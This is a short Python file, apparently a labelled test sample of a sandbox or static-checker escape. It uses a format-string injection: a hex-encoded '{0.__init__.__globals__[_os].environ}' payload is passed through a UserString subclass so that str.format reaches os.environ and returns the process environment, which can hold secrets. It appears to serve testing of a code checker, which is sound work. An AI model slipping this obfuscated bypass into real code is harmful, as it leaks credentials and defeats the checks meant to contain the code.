# family: format
# Escape: `data` is bound to a literal in the class body and never assigned in the source, so self.data.format
# is trusted as a class constant. But the class derives from collections.UserString, whose __init__ sets
# self.data from the constructor argument: an instance attribute shadowing the constant. The argument is a
# hex-decoded "{0.__init__.__globals__[_os].environ}", walked by str.format from random.Random to os.environ.
import collections
import random


class Snippet(collections.UserString):
    data = "{0}"

    def render(self, value) -> str:
        return self.data.format(value)


def tool() -> str:
    return Snippet(bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()).render(random.Random())
